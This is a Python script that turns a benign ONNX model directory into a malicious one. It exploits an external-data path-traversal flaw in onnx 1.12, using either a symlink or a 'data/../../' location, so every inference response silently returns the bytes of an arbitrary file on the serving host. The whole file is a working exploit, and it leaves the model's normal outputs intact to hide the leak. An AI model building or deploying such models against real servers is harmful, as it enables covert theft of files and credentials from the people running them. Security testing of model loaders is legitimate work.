#!/usr/bin/python3
"""Turn a benign ONNX model directory into one whose weights read a file outside it.

An ONNX tensor can keep its bytes in an external file named by its "location"; onnx.load joins
that location to the model's directory and reads it. Debian's onnx 1.12 strips only leading "/"
and "." from the location (the CVE-2024-27318 class), so two layouts reach any file the server
can read:
  --technique symlink    the location is a file the model directory ships, which is a symlink
                         to --target (resolved where the server runs)
  --technique traversal  the location is "data/" followed by "../" enough times to reach "/",
                         then --target; the model directory ships the data/ directory
The new tensor "leak" (UINT8, --length bytes) is returned by an added graph output "leak"
(Identity), so every inference response carries the target file's bytes; the model's own outputs
are untouched and still answered correctly.

Writes --out: model.onnx (the rewritten graph, the original weights still external in
weights.bin), the original's other files, and the symlink or data/ directory. Imports onnx but
loads no external data, so nothing outside --base is read here.
"""

import argparse
import os
import shutil
import sys

import onnx
from onnx import TensorProto, helper

LEAK = "leak"
# Deeper than any model directory a target mounts: "../" past "/" stays at "/".
TRAVERSAL_DEPTH = 16


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--base", required=True, help="the benign model directory (model.onnx, weights.bin, model.json)")
    parser.add_argument("--model", default="model.onnx", help="the graph's file name in --base (default model.onnx)")
    parser.add_argument("--out", required=True, help="the malicious model directory to write")
    parser.add_argument("--technique", required=True, choices=("symlink", "traversal"))
    parser.add_argument("--target", required=True, help="absolute path, inside the sandbox, of the file to read")
    parser.add_argument("--length", required=True, type=int, help="bytes to read from it")
    args = parser.parse_args()
    if not args.target.startswith("/") or args.length < 1:
        parser.error("--target must be absolute and --length positive")

    os.makedirs(args.out, exist_ok=True)
    for name in os.listdir(args.base):
        source = os.path.join(args.base, name)
        if os.path.isfile(source) and not os.path.islink(source):
            shutil.copyfile(source, os.path.join(args.out, name))

    model = onnx.load(os.path.join(args.base, args.model), load_external_data=False)
    if args.technique == "symlink":
        location = "leak.bin"
        os.symlink(args.target, os.path.join(args.out, location))
    else:
        os.makedirs(os.path.join(args.out, "data"), exist_ok=True)
        location = "data/" + "../" * TRAVERSAL_DEPTH + args.target.lstrip("/")

    leak = TensorProto(name=LEAK, data_type=TensorProto.UINT8, dims=[args.length])
    leak.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(args.length))):
        entry = leak.external_data.add()
        entry.key, entry.value = key, value
    model.graph.initializer.append(leak)
    model.graph.node.append(helper.make_node("Identity", [LEAK], [LEAK + "_out"]))
    model.graph.output.append(helper.make_tensor_value_info(LEAK + "_out", TensorProto.UINT8, [args.length]))
    with open(os.path.join(args.out, args.model), "wb") as f:
        f.write(model.SerializeToString())
    return 0


if __name__ == "__main__":
    sys.exit(main())
